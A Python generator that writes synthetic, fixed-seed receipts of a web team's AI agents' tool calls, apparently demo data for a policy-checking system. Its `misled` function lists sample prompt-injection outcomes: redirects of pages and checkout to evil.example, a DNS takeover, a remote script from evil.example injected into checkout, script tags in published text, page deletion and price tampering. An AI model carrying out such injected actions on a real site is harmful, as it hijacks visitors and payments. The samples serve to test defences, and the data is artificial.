#!/usr/bin/env python3
"""Writes a made-up quarter of a web team's agents, as Proviso receipts.

    policies/website/demo/generate.py | gzip -9n > policies/website/demo/history.jsonl.gz

Always the same lines. `recorded` is what the team of that quarter did: the editor on duty looked at
what seemed large, legal was asked by mail, and during sales people took care not to touch much.
"""

import datetime
import json
import pathlib
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2]))
from history import Dice, stamp, write  # noqa: E402

CALLS = 2500
START = datetime.datetime(2026, 9, 21, 6, 40)
# page: kind, visits a week, protected, price
PAGES = {
    "/": ("home", 42000, True, None),
    "/pricing": ("pricing", 9000, True, None),
    "/terms": ("legal", 800, True, None),
    "/checkout": ("checkout", 12000, True, None),
    "/products/lamp": ("product", 4100, False, 49.0),
    "/products/chair": ("product", 2600, False, 179.0),
    "/products/desk": ("product", 1900, False, 420.0),
    "/careers/editor": ("careers", 300, False, None),
}
PAGES.update({f"/blog/{year}-{number:02}": ("article", 40 + 331 * number, False, None)
              for year in (2025, 2026) for number in range(1, 18)})
ARTICLES = tuple(page for page in PAGES if page.startswith("/blog/"))
PRODUCTS = tuple(page for page in PAGES if page.startswith("/products/"))
PEOPLE = {"ed-1": ["editor"], "ed-2": ["editor"], "wri-1": ["writer"], "wri-2": ["writer"],
          "mar-1": ["marketing_lead"], "ops-1": ["web_operations"]}
TEXTS = ("Leaves fall, and evenings grow longer.", "How we choose our wood.", "Three rooms, one lamp.",
         "A visit to the workshop.", "What our readers asked us this month.")
CLAIMS = ("The best lamp there is.", "Guaranteed for life.", "Certified wood, 100 % local.")
FLAGS = ("prices", "claims", "legal", "personal", "script")


def article(dice):
    page = dice.one_of(ARTICLES)
    text, found = dice.one_of(TEXTS), set()
    if dice.chance(0.12):
        text, found = dice.one_of(CLAIMS), {"claims"} if dice.chance(0.8) else set()
    elif dice.chance(0.08):
        text, found = "Now for 39 € only.", {"prices"}
    calls = [("read_page", {"page": page}), ("save_draft", {"page": page, "text": text}),
             ("publish", {"page": page, "text": text})]
    if dice.chance(0.1):
        calls.append(("restore_revision", {"page": page, "revision": "r-1"}))
    return ("ed-1", "ed-2", "ed-2", "mar-1"), calls, found


def drafting(dice):
    page = dice.one_of(ARTICLES)
    return ("wri-1", "wri-2"), [("read_page", {"page": page}),
                                ("save_draft", {"page": page, "text": dice.one_of(TEXTS)}),
                                ("preview", {"page": page})], set()


def search(dice):
    pages = [dice.one_of(ARTICLES + PRODUCTS) for _ in range(2 + dice.below(4))]
    title = dice.one_of(("Lamps for long evenings", "Oak and ash", "The best desk"))
    return ("ed-1", "ed-2"), [("read_statistics", {})] + [
        ("set_metadata", {"page": page, "title": title}) for page in pages], set()


def product(dice):
    page = dice.one_of(PRODUCTS)
    text = dice.one_of(TEXTS + CLAIMS)
    calls = [("read_page", {"page": page}), ("publish", {"page": page, "text": text})]
    if dice.chance(0.5):
        factor = dice.one_of((0.9, 0.95, 1.05, 1.1, 1.5, 0.1))
        price = {"page": page, "price": round(PAGES[page][3] * factor, 2)}
        calls.append(("set_price", price))
    return ("mar-1", "ed-1"), calls, {"claims"} if text in CLAIMS else set()


def front(dice):
    page = dice.one_of(("/", "/pricing", "/terms", "/careers/editor", "/checkout"))
    calls = [("read_page", {"page": page}), ("publish", {"page": page, "text": dice.one_of(TEXTS)})]
    if dice.chance(0.3):
        calls.append(("set_banner", {"text": "Closed on Friday", "until": 3 if dice.chance(0.7) else None}))
    return ("mar-1", "ed-1"), calls, {"legal"} if page == "/terms" else set()


def bulk(dice):
    pages = [dice.one_of(ARTICLES) for _ in range(2 + dice.below(28))]
    return ("ed-1", "mar-1"), [("publish_many", {"pages": pages})], set()


def moved(dice):
    to = dice.one_of(ARTICLES + ("https://shop.example.com/",))
    return ("ops-1", "ops-1", "ed-1"), [
        ("unpublish", {"page": dice.one_of(ARTICLES)}),
        ("set_redirect", {"page": dice.one_of(ARTICLES), "to": to})], set()


def misled(dice):
    """What a brief, or a comment below an article, made an agent try."""
    page = dice.one_of(ARTICLES)
    return ("ops-1", "ed-1", "mar-1"), [("read_page", {"page": page}), dice.one_of((
        ("set_redirect", {"page": page, "to": "https://evil.example/login"}, "redirect to a stranger"),
        ("set_redirect", {"page": "/checkout", "to": "//evil.example"}, "redirect the checkout"),
        ("set_dns", {"name": "www.example.com", "record": "CNAME", "value": "evil.example"},
         "take over a name"),
        ("add_script", {"page": "/checkout", "source": "https://evil.example/x.js"}, "add a script"),
        ("publish", {"page": page, "text": "<script src=//evil.example></script>"}, "code in a text"),
        ("set_metadata", {"page": page, "index": False}, "hide a page"),
        ("delete_page", {"page": page}, "delete a page"),
        ("set_price", {"page": "/products/desk", "price": 4.2}, "move the decimal point")))], set()


KINDS = ((30, article), (20, drafting), (12, search), (12, product), (7, front), (4, bulk), (6, moved),
         (5, misled))


def kind_of(dice):
    mark = dice.below(sum(weight for weight, _ in KINDS))
    for weight, kind in KINDS:
        mark -= weight
        if mark < 0:
            return kind
    raise AssertionError("the weights add up")


def habit(tool, args, place):
    if tool in ("set_dns", "add_script", "delete_page"):
        return "block"
    if place == "preview" or tool in ("read_page", "read_statistics", "save_draft", "preview"):
        return "allow"
    kind = PAGES.get(args.get("page"), ("article",))[0]
    if tool in ("set_price", "set_banner", "publish_many", "set_redirect") or kind != "article":
        return "gate"
    return "allow"


def recorded(dice, tool, args, place, time):
    outcome = habit(tool, args, place)
    told = {"outcome": outcome, "policy": {"name": "team.habits", "version": "2026"}}
    if outcome == "gate" and dice.chance(0.9):
        evil = "evil" in json.dumps(args) or args.get("price") == 4.2
        words = ("reject",) if evil else ("approve",) * 7 + ("edit", "edit", "reject")
        word = dice.one_of(words)
        seen = time + datetime.timedelta(minutes=5 + dice.below(400))
        told["verdict"] = {"approve": "approved", "edit": "edited", "reject": "rejected"}[word]
        told["approvals"] = [{"by": dice.one_of(("ed-3", "mar-2")), "requested_at": stamp(time),
                              "at": stamp(seen), "verdict": word}]
    return told


def facts_of(dice, page):
    kind, visits, protected, price = PAGES[page]
    values = {"kind": kind, "visits": visits, "protected": protected}
    values.update({"price": price} if price else {})
    if dice.chance(0.01):
        del values["visits"]  # statistics do not always answer
    return {"page": {"key": page, "values": values}}


def receipt(dice, number, run, who, place, tool, args, found, time):
    if args.get("until"):
        args = dict(args, until=stamp(time + datetime.timedelta(days=args["until"])))
    attributes = {f"change.{flag}": flag in found for flag in FLAGS}
    attributes["change.author"] = dice.one_of(("wri-1", "wri-2", "ed-3"))
    if dice.chance(0.97):
        attributes["change.revision"] = f"r-{number}"
    line = {
        "format": "proviso-receipt-1", "id": f"call-{number:04}", "time": stamp(time),
        "tool": tool, "args": args,
        "principal": {"id": who, "roles": PEOPLE[who]},
        "agent": {"id": dice.one_of(("web-bot", "seo-bot")), "roles": [], "model": "m-7"},
        "workflow": {"name": "website", "version": "6", "run": f"run-{run:04}"},
        "environment": place, "attributes": attributes,
        "recorded": recorded(dice, tool, args, place, time),
    }
    if args.get("page") in PAGES:
        line["facts"] = facts_of(dice, args["page"])
    line["undoing"] = tool == "restore_revision" and dice.chance(0.9)
    if dice.chance(0.01):
        line["unknown"] = ["change.claims"]  # the reviewer of texts timed out
        del attributes["change.claims"]
    return line


def moved_on(dice, time):
    """Half an hour or two later; mostly when people work."""
    time += datetime.timedelta(minutes=5 + dice.below(75))
    while (time.weekday() > 4 or not 7 <= time.hour < 16) and dice.chance(0.9):
        time += datetime.timedelta(hours=1)
    return time


def history():
    dice = Dice(20260921)
    time, run, number = START, 0, 0
    while True:
        run += 1
        time = moved_on(dice, time)
        people, calls, found = kind_of(dice)(dice)
        who = dice.one_of(people)
        place = "preview" if dice.chance(0.1) else "production"
        for tool, args, *attack in calls:
            number += 1
            if number > CALLS:
                return
            time += datetime.timedelta(seconds=10 + dice.below(120))
            line = receipt(dice, number, run, who, place, tool, args, found, time)
            yield line | {"intent": f"attack: {name}" for name in attack}


if __name__ == "__main__":
    write(history(), CALLS)
